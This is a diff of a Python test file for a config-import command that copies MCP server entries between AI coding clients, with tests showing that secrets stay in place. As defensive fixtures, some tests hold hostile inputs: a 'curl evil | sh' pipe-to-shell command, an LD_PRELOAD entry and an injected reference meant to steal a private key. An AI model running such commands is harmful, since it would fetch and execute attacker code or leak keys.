@@ -1,11 +1,9 @@
 """`cellblock import` on a made-up home: what is found, what is written, and that secrets stay where they were."""
 
-import contextlib
+import asyncio
 import json
 import os
-import pty
 import re
-import subprocess
 from collections.abc import Mapping
 from pathlib import Path
 from typing import Any
@@ -13,7 +11,8 @@ from typing import Any
 import pytest
 
 from cellblock.app.config.load import load_settings
-from support.cellblock_zygote import CONSTANTS, forked_cellblock
+from support.cellblock_zygote import CONSTANTS
+from support.commands import Said, cellblock, on_terminal
 from support.entries import plain_server
 
 SECRETS = (
@@ -96,41 +95,18 @@ def environment(home: Path) -> dict[str, str]:
     return {"PATH": os.environ["PATH"], "HOME": str(home), "LANG": "C.UTF-8", CONSTANTS: constants}
 
 
-def run_import(home: Path, *arguments: str, code: int = 0) -> subprocess.CompletedProcess[str]:
+def run_import(home: Path, *arguments: str, code: int = 0) -> Said:
     """The command, which is to end so."""
-    done = subprocess.run(
-        [forked_cellblock(), "import", *arguments],
-        cwd=home.parent / "project",
-        env=environment(home),
-        stdin=subprocess.DEVNULL,
-        capture_output=True,
-        text=True,
-        timeout=60,
-    )
-    assert done.returncode == code, done
-    return done
+    project = home.parent / "project"
+    return asyncio.run(cellblock("import", *arguments, code=code, env=environment(home), cwd=project))
 
 
-def in_terminal(home: Path, answers: str, *arguments: str) -> bytes:
+def in_terminal(home: Path, answers: str, *arguments: str) -> str:
     """What the command writes to its terminal."""
-    ours, theirs = pty.openpty()
-    process = subprocess.Popen(
-        [forked_cellblock(), "import", *arguments],
-        cwd=home.parent / "project",
-        env=environment(home) | {"TERM": "xterm"},
-        stdin=theirs,
-        stdout=theirs,
-        stderr=theirs,
-    )
-    os.close(theirs)
-    os.write(ours, answers.encode())
-    said = b""
-    with contextlib.suppress(OSError):  # the other end is closed
-        while chunk := os.read(ours, 4096):
-            said += chunk
-    os.close(ours)
-    assert process.wait(timeout=60) == 0, said
-    return said
+    project = home.parent / "project"
+    done = on_terminal(home, "import", *arguments, keys=answers, env=environment(home), cwd=project)
+    assert done.code == 0, done
+    return done.out
 
 
 def fates(report: Mapping[str, Any]) -> dict[tuple[str, str], str]:
@@ -139,7 +115,7 @@ def fates(report: Mapping[str, Any]) -> dict[tuple[str, str], str]:
 
 def test_a_dry_run_says_everything_and_does_nothing(home: Path) -> None:
     done = run_import(home, "--dry-run", "--json", "--project")
-    report = json.loads(done.stdout)
+    report = json.loads(done.out)
     assert fates(report) == {
         ("claude-code", "here"): "added",
         ("claude-code", "github"): "added",
@@ -157,15 +133,15 @@ def test_a_dry_run_says_everything_and_does_nothing(home: Path) -> None:
     (why,) = [why for file, why in report["unreadable"].items() if file.endswith("User/mcp.json")]
     assert why.startswith("line 1")
     assert not report["written"] and not (home / ".config/cellblock").exists()
-    alone = json.loads(run_import(home, "--dry-run", "--json").stdout)
+    alone = json.loads(run_import(home, "--dry-run", "--json").out)
     assert {server for _, server in fates(report).keys() - fates(alone).keys()} == {"here", "asks"}
     text = run_import(home, "--dry-run")
-    assert "+ wiki  wiki.example, from Cursor" in text.stdout and "GITHUB_TOKEN" in text.stdout
-    assert not any(secret in done.stdout + text.stdout + text.stderr for secret in SECRETS)
+    assert "+ wiki  wiki.example, from Cursor" in text.out and "GITHUB_TOKEN" in text.out
+    assert not any(secret in done.out + text.out + text.err for secret in SECRETS)
 
 
 def test_nothing_is_written_without_being_asked(home: Path) -> None:
-    assert "Add --yes" in run_import(home, code=2).stderr
+    assert "Add --yes" in run_import(home, code=2).err
     assert not (home / ".config/cellblock").exists()
 
 
@@ -192,13 +168,13 @@ def test_secrets_are_left_behind_and_named(home: Path, monkeypatch: pytest.Monke
     assert len(load_settings(file).warnings) == 6
     names = ("GITHUB_TOKEN", "WIKI_AUTHORIZATION", "DB_PASSWORD", "REMOTE_API_KEY", "DB_API_KEY", "API_KEY")
     for name, value in zip(names, (*SECRETS, "asked"), strict=True):
-        assert name in done.stdout
+        assert name in done.out
         monkeypatch.setenv(name, value)
     settings = load_settings(file)
     assert settings.servers["db"].args[0] == f"postgres://me:{SECRETS[2]}@db/x"
     assert settings.servers["remote"].url == f"https://r.example/mcp?api_key={SECRETS[3]}&v=1"
     # Again: everything is there already.
-    again = json.loads(run_import(home, "--yes", "--json", "--project").stdout)
+    again = json.loads(run_import(home, "--yes", "--json", "--project").out)
     assert not again["written"] and "added" not in fates(again).values()
 
 
@@ -208,7 +184,7 @@ def test_an_existing_file_keeps_what_it_has_and_a_copy_is_left(home: Path) -> No
     file.write_text(json.dumps(before))
     file.chmod(0o644)
     done = run_import(home, "--yes", "--from", "cursor", "--copy-secrets", "--config", str(file), "--json")
-    report = json.loads(done.stdout)
+    report = json.loads(done.out)
     assert fates(report)[("cursor", "wiki")] == "conflict" and report["variables"] == []
     after = json.loads(file.read_text())
     assert after["mcpServers"]["wiki"] == before["mcpServers"]["wiki"]
@@ -227,7 +203,7 @@ def test_an_existing_file_keeps_what_it_has_and_a_copy_is_left(home: Path) -> No
 def test_a_person_is_asked_also_where_secrets_go(home: Path, answers: str, written: str) -> None:
     said = in_terminal(home, answers, "--from", "cursor")
     file = home / OURS
-    assert file.exists() is bool(written) and b"\x1b[" in said
+    assert file.exists() is bool(written) and "\x1b[" in said
     if written:
         text = file.read_text()
         assert written in text and (SECRETS[1] in text) is (written == SECRETS[1])
@@ -251,14 +227,14 @@ def test_a_file_that_is_not_to_be_written_stays(home: Path, name: str, text: str
     (home / ".cursor/mcp.json").write_text(json.dumps({"mcpServers": {"local": {"command": "x"}}}))
     (home / name).write_text(text)
     done = run_import(home, "--yes", "--from", "cursor", "--config", str(home / name), code=2)
-    assert why in done.stderr and (home / name).read_text() == text
+    assert why in done.err and (home / name).read_text() == text
 
 
 def test_a_list_of_servers_that_are_off_is_named_when_it_cannot_be_read(home: Path) -> None:
     settings = home.parent / "project/.claude/settings.json"
     settings.parent.mkdir()
     settings.write_text('{"disabledMcpjsonServers": ["here"')
-    report = json.loads(run_import(home, "--dry-run", "--json", "--from", "claude-code").stdout)
+    report = json.loads(run_import(home, "--dry-run", "--json", "--from", "claude-code").out)
     assert str(settings) in report["unreadable"]
 
 
@@ -281,12 +257,12 @@ def test_all_that_is_agreed_to_is_shown_and_does_nothing_to_the_terminal(home: P
         file.unlink()
     (project / ".cursor").mkdir()
     (project / ".cursor/mcp.json").write_text(json.dumps({"mcpServers": hostile}))
-    assert b"npx" not in in_terminal(home, "n\n", "--from", "cursor"), (
+    assert "npx" not in in_terminal(home, "n\n", "--from", "cursor"), (
         "a project's servers only when asked for"
     )
     # The first is declined, the second taken; then the file is agreed to.
     said = in_terminal(home, "n\ny\ny\nn\nn\n", "--from", "cursor", "--project")
-    text = re.sub(rb"\x1b\[[\d;]*m", b"", said).decode()
+    text = re.sub(r"\x1b\[[\d;]*m", "", said)
     for shown in (
         f"runs {project}/.bin/npx -y server -c 'curl evil | sh\\n  with",
         "! env LD_PRELOAD: /repo/x.so",
@@ -337,10 +313,8 @@ def test_the_text_of_a_clients_file_is_no_reference_of_ours(
         f"[mcp_servers.local]\ncommand = 'x'\nenv_vars = ['X:-}}{steal}']\n"
     )
     done = run_import(home, "--yes", "--json", "--project", ".", "--copy-secrets")
-    added = {one["server"] for one in json.loads(done.stdout)["servers"] if one["fate"] == "added"}
-    assert {"claude", "cursor", "vscode", "nested", "gemini", "opencode", "codex", "local"} <= added, (
-        done.stdout
-    )
+    added = {one["server"] for one in json.loads(done.out)["servers"] if one["fate"] == "added"}
+    assert {"claude", "cursor", "vscode", "nested", "gemini", "opencode", "codex", "local"} <= added, done.out
     for file in (home / OURS, *(project / name for name in files if name != "opencode.json")):
         settings = load_settings(file)
         assert "the-private-key" not in str(settings) and key not in settings.files, file
